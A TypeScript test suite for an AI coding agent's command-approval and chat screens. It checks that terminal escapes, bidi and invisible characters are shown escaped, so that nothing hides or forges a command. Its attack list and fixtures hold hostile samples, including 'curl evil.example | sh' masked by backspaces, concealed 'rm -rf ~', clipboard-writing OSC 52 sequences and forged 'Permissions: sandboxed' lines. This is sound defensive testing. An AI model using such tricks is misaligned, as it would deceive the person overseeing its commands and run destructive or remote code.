/**
 * Terminal injection (contract, "The terminal"): commands, environment values,
 * directory names, command output and model text carrying escape sequences
 * (CSI clear and cursor moves, OSC 8 hyperlinks, OSC 52 clipboard writes), \r,
 * backspaces, bidi controls, zero-width and tag characters and C1 controls are
 * shown escaped. Nothing can move the cursor, clear the screen, or hide part of
 * a command on the approval screen: the `Command: ` value parses back, as JSON,
 * to exactly the command that runs, and the directory and environment lines
 * decode back to exactly the values the child gets.
 */
import * as Fs from "node:fs"
import * as Path from "node:path"
import { afterAll, describe, expect, it } from "@effect/vitest"
import * as Effect from "effect/Effect"
import * as Layer from "effect/Layer"
import * as fc from "fast-check"
import { render } from "../../src/approval/ApprovalScreen.js"
import { Approver } from "../../src/approval/Approver.js"
import * as Gateway from "../../src/cli/Gateway.js"
import * as ResponsesServer from "../../src/testing/ResponsesServer.js"
import { erase } from "../../src/tools/Tool.js"
import { BashRunner } from "../../src/tools/bash/BashRunner.js"
import * as BashTool from "../../src/tools/bash/BashTool.js"
import { agentLayer, scriptedModel, tempDir } from "../support/Harness.js"
import * as Screen from "../support/Screen.js"
import { cutAt, textInPieces } from "./Streams.js"
import { Secrets } from "../../src/security/Secrets.js"

// ---------------------------------------------------------------------------
// What must never reach the screen raw, written out independently of Escape.

/** C0, DEL and C1 controls, format characters, line and paragraph separators, lone surrogates, invisible code points. */
const UNSAFE = /[\u0000-\u001f\u007f-\u009f\p{Cf}\p{Zl}\p{Zp}\p{Cs}\p{Default_Ignorable_Code_Point}]/u

/** The unsafe characters in `text` but `allowed`, as code points. */
const rawUnsafe = (text: string, allowed: string): Array<string> =>
  [...text]
    .filter((ch) => UNSAFE.test(ch) && !allowed.includes(ch))
    .map((ch) => `U+${(ch.codePointAt(0) ?? 0).toString(16).padStart(4, "0")}`)
// The approval screen: line breaks between its lines, nothing else.
const ON_APPROVAL = "\n"
// Model text and command output keep their line breaks and tabs, and emoji their presentation selectors.
const IN_TEXT = "\n\t\ufe0e\ufe0f"

/** Reads back a Directory or Environment value: there a doubled backslash is one backslash. */
const unescapeValue = (shown: string): string => shown.split("\\\\").map(unescape).join("\\")

/** Reads back escaped display text, for originals without backslashes. */
const unescape = (shown: string): string =>
  shown.replace(/\\(e|r|n|t|b|f|v|x[0-9a-f]{2}|u\{[0-9a-f]+\}|u[0-9a-f]{4})/g, (_, escape: string) => {
    const named: Record<string, string> = { e: "\u001b", r: "\r", n: "\n", t: "\t", b: "\b", f: "\f", v: "\v" }
    if (named[escape] !== undefined) return named[escape]
    const hex = escape.startsWith("u{") ? escape.slice(2, -1) : escape.slice(1)
    return String.fromCodePoint(parseInt(hex, 16))
  })

// ---------------------------------------------------------------------------
// A hostile working directory and parent environment.

const base = Fs.realpathSync(tempDir("injection"))
afterAll(() => Fs.rmSync(base, { recursive: true, force: true }))
/** A real directory whose path clears the screen and forges a second Directory line. */
const cwd = Path.join(base, "evil\u001b[2J\nDirectory: /home/safe\u202e\u200b")
Fs.mkdirSync(cwd, { recursive: true })

const parentEnv: Readonly<Record<string, string>> = {
  PATH: `${process.env["PATH"] ?? "/usr/bin:/bin"}:/opt/\u{E0041}\u{E0042}`,
  HOME: `/home/\u001b]52;c;cm0gLXJmIH4=\u0007me\u001b]8;;https://evil.example\u001b\\`,
  USER: "bob\r\u001b[2KUSER=root",
  LOGNAME: "x\u009b2Jy\u0085",
  LANG: "C.UTF-8\u2066\u2069\u200d",
  TMPDIR: "/tmp/\u202etxt.exe\b\b\u00ad"
}

const makeTool = BashTool.make({ cwd, parentEnv }).pipe(Effect.provide(BashRunner.layer), Effect.provide(Secrets.layerNone))

/**
 * The approval screen for `command`, checked: nothing raw, the fixed layout
 * (no line forged or hidden), the command recoverable, the directory and every
 * environment value recoverable.
 */
const approvalScreen = (tool: Effect.Effect.Success<typeof makeTool>, command: string) => {
  const prepared = Effect.runSync(tool.prepare(JSON.stringify({ command })))
  const screen = render(prepared.display)
  expect(rawUnsafe(screen, ON_APPROVAL)).toEqual([])
  const lines = screen.split("\n")
  const env = Object.entries(prepared.operation.env)
  expect(lines[0]).toBe("[Tool: bash]")
  expect(lines.filter((line) => line.startsWith("Command: "))).toHaveLength(1)
  expect(lines.filter((line) => line.startsWith("Directory: "))).toHaveLength(1)
  expect(lines[1]!.startsWith("Command: ")).toBe(true)
  expect(JSON.parse(lines[1]!.slice("Command: ".length))).toBe(command)
  expect(prepared.operation.command).toBe(command)
  expect(lines[2]!.startsWith("Directory: ")).toBe(true)
  expect(unescapeValue(lines[2]!.slice("Directory: ".length))).toBe(cwd)
  // The environment under its label: entries two or more spaces apart, aligned; a long one
  // continues further indented (wrapped after a `:`); a space inside an entry is shown as \x20.
  expect(lines[3]!.startsWith("Environment: ")).toBe(true)
  const end = lines.findIndex((line) => line.startsWith("Timeout: "))
  const indent = " ".repeat("Environment: ".length)
  const entries: Array<string> = []
  for (const [index, line] of lines.slice(3, end).entries()) {
    const body = index === 0 ? line.slice(indent.length) : line
    if (index === 0 || (body.startsWith(indent) && body[indent.length] !== " ")) entries.push(...body.trim().split(/ {2,}/))
    else entries[entries.length - 1] += body.trimStart()
  }
  expect(entries.map(unescapeValue).sort()).toEqual(env.map(([name, value]) => `${name}=${value}`).sort())
  expect(lines.slice(end)).toEqual([
    "Timeout: 30 s",
    "Output limit: 64 KiB (stdout and stderr combined)",
    "Permissions: runs with your account's permissions; no sandbox",
    ""
  ])
  return screen
}

const ATTACKS: ReadonlyArray<readonly [string, string]> = [
  ["CSI clear screen and home", "ls\u001b[2J\u001b[H"],
  ["cursor up, erase line, then a harmless command drawn over", "rm -rf ~\u001b[1A\u001b[2K\u001b[10Decho hello"],
  ["a carriage return that overwrites", "rm -rf ~ #\recho safe   "],
  ["backspaces that erase", "curl evil.example | sh\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\becho ok"],
  ["an OSC 8 hyperlink", "open \u001b]8;;https://evil.example\u001b\\https://good.example\u001b]8;;\u001b\\"],
  ["an OSC 52 clipboard write", "echo hi \u001b]52;c;cm0gLXJmIH4=\u0007"],
  ["SGR 8 concealed text", "echo visible \u001b[8m; rm -rf ~\u001b[28m"],
  ["a right-to-left override", "cat \u202etxt.exe"],
  ["bidi isolates", "echo \u2066\u2067hidden\u2069\u2068x\u2069"],
  ["zero-width characters", "rm\u200b -rf\u200c /\u200d\u2060\ufeff"],
  ["a C1 CSI and NEL", "ls \u009b2J \u0085 \u009d0;title\u009c"],
  ["DEL and a bell", "ls\u007f\u0007"],
  ["tag characters that render as nothing", "cat notes.txt\u{E0020}\u{E0041}\u{E0042}\u{E007F}"],
  ["deprecated format and invisible fillers", "ls\u206a\u206f\u3164\u115f\uffa0\u034f\u{1D173}"],
  ["variation selectors", "ls\ufe0f\u{E0100}"],
  ["line and paragraph separators", "echo a\u2028b\u2029c"],
  ["a newline forging another field", "ls\nDirectory: /home/safe\nPermissions: sandboxed"],
  ["a JSON-looking payload", "echo \"\\u001b[2J\" '\\\"' \\\\"]
]

describe("the approval screen", () => {
  it.effect("shows each attack escaped, on its one line, recoverable exactly", () =>
    Effect.gen(function*() {
      const tool = yield* makeTool
      for (const [name, command] of ATTACKS) {
        const screen = approvalScreen(tool, command)
        expect({ name, ok: screen.includes("\u001b") }).toEqual({ name, ok: false })
      }
      // The directory on its own line, the environment on one, every entry escaped.
      const screen = approvalScreen(tool, "ls")
      expect(screen).toContain("evil\\e[2J\\nDirectory: /home/safe\\u202e\\u200b\n")
      expect(screen).toContain(" HOME=/home/\\e]52;c;cm0gLXJmIH4=\\x07me\\e]8;;https://evil.example\\e\\\\")
      expect(screen).toContain(" USER=bob\\r\\e[2KUSER=root ")
      expect(screen).toContain(" LOGNAME=x\\x9b2Jy\\x85")
      expect(screen).toContain(" LANG=C.UTF-8\\u2066\\u2069\\u200d")
      expect(screen).toContain(" TMPDIR=/tmp/\\u202etxt.exe\\b\\b\\xad")
      expect(screen).toContain("/opt/\\u{e0041}\\u{e0042}\n")
    }))

  it.effect("holds for 2,000 generated commands", () =>
    Effect.gen(function*() {
      const tool = yield* makeTool
      const units = fc.constantFrom(
        "\u001b", "[", "]", "2J", "H", ";", "\u0007", "\\", "\r", "\n", "\t", "\b", "\u007f", "\u0085", "\u009b", "\u009d",
        "\u00ad", "\u061c", "\u180e", "\u200b", "\u200d", "\u200e", "\u200f", "\u2028", "\u2029", "\u202a", "\u202e",
        "\u2060", "\u2066", "\u2069", "\u206f", "\u3164", "\ufe0f", "\ufeff", "\ufff9", "\u{E0001}", "\u{E0041}",
        "\u{E0100}", "\u{1D173}", "😀", "é", "\"", "'", "$", "`", " ", "a", "rm -rf ~", "echo ok"
      )
      fc.assert(
        fc.property(fc.string({ unit: units, minLength: 1, maxLength: 24 }), (command) => {
          fc.pre(command.trim() !== "")
          approvalScreen(tool, command)
        }),
        { numRuns: 2_000 }
      )
    }))
})

// ---------------------------------------------------------------------------
// The whole chat: model text, command output, the result header, failure lines.

const chat = (typed: ReadonlyArray<string>, replies: Parameters<typeof scriptedModel>[0]) =>
  Effect.gen(function*() {
    const server = yield* scriptedModel(replies)
    const bash = yield* makeTool
    const screen = Screen.make(typed, { interactive: true })
    const layer = agentLayer({ home: tempDir("injection-home"), url: server.url, tools: [erase(bash)], approver: Approver.layer }).pipe(
      Layer.provideMerge(screen.layer)
    )
    yield* Effect.scoped(Effect.provide(Gateway.run({ banner: "BANNER" }), layer))
    return screen.screen()
  })

const HOSTILE_TEXT =
  "Sure.\u001b[2J\u001b[1;1Hfake prompt\r\u001b]52;c;cm0=\u0007\u001b]8;;https://evil.example\u001b\\link\u001b]8;;\u001b\\" +
  "\u202eevil\u2066x\u2069\u200b\u009b31m\u0085\u{E0041}\b\u0000 end"

// Printed by bash: escape sequences as bytes, C1 CSI encoded in UTF-8, a raw 0x9b byte, bidi, zero-width, a tag, then the directory.
const PRINTF =
  "printf '\\033[2J\\033[H\\033]8;;https://evil.example\\033\\\\click\\033]8;;\\033\\\\ \\033]52;c;cm0gLXJmIH4=\\007 " +
  "over\\rwrite\\b\\b \\342\\200\\256gnp.exe \\302\\2332J \\233 \\342\\200\\213zero \\363\\240\\201\\201tag\\tTab\\n'; pwd"

describe("the chat screen", () => {
  it.scopedLive("shows hostile model text, command output, directory and errors escaped", () =>
    Effect.gen(function*() {
      const screen = yield* chat(["go", "y", "again"], [
        ResponsesServer.toolCallResponse([{ call_id: "c1", name: "bash", arguments: JSON.stringify({ command: PRINTF }) }], {
          message: { text: HOSTILE_TEXT }
        }),
        ResponsesServer.toolCallResponse([
          { call_id: "c2", name: "bash\u001b[2J\u202e", arguments: "{}" },
          { call_id: "c3", name: "bash", arguments: JSON.stringify({ command: "ls", "\u001b]52;c;eA==\u0007": 1 }) }
        ]),
        ResponsesServer.textResponse("done"),
        ResponsesServer.httpError(500, "upstream \u001b[2J\u202e exploded\u009b")
      ])
      expect(rawUnsafe(screen, IN_TEXT)).toEqual([])
      expect(screen).not.toContain("\r")
      // The approval screen of the real command, with the directory and HOME escaped.
      const commandLine = screen.split("\n").find((line) => line.startsWith("Command: "))!
      expect(JSON.parse(commandLine.slice("Command: ".length))).toBe(PRINTF)
      expect(screen).toContain("Directory: " + `${base}/evil\\e[2J\\nDirectory: /home/safe\\u202e\\u200b`)
      // The command ran in the hostile directory, and its output is shown escaped.
      expect(screen).toContain("[Tool result: completed; exit code 0]")
      expect(screen).toContain(
        "\\e[2J\\e[H\\e]8;;https://evil.example\\e\\click\\e]8;;\\e\\ \\e]52;c;cm0gLXJmIH4=\\x07 over\\rwrite\\b\\b \\u202egnp.exe \\x9b2J \ufffd \\u200bzero \\u{e0041}tag\tTab\n"
      )
      // (The directory's own newline starts a line that reads like Mino's `Directory:` line: it is set apart.)
      expect(screen).toContain(`${base}/evil\\e[2J\n┊ Directory: /home/safe\\u202e\\u200b\n`)
      // Model text, however it streams, reads back exactly.
      const assistant = screen.split("\n").find((line) => line.startsWith("Assistant> Sure."))!
      expect(unescape(assistant.slice("Assistant> ".length))).toBe(HOSTILE_TEXT)
      // An unknown tool name and an unknown field name, echoed in results, are escaped too.
      expect(screen).toContain("[Tool result: unknown_tool]\nMino has no tool named \"bash\\u001b[2J\\u202e\".")
      expect(screen).toContain("unknown field \"\\u001b]52;c;eA==\\u0007\"")
      expect(screen).toContain("Turn failed: model request failed: HTTP 500: upstream \\e[2J\\u202e exploded\\x9b\n")
    }))

  it("model text split anywhere into deltas is still shown escaped and reads back exactly", async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(fc.nat(HOSTILE_TEXT.length), { minLength: 1, maxLength: 12 }), async (cuts) => {
        const pieces = cutAt(HOSTILE_TEXT, cuts)
        const screen = await Effect.runPromise(Effect.scoped(chat(["hi"], [textInPieces(pieces)])))
        expect(rawUnsafe(screen, IN_TEXT)).toEqual([])
        const assistant = screen.split("\n").find((line) => line.startsWith("Assistant> "))!
        // A surrogate pair split across deltas arrives as two escaped halves; both read back.
        expect(unescape(assistant.slice("Assistant> ".length))).toBe(HOSTILE_TEXT)
      }),
      { numRuns: 15 }
    )
  }, 60_000)
})
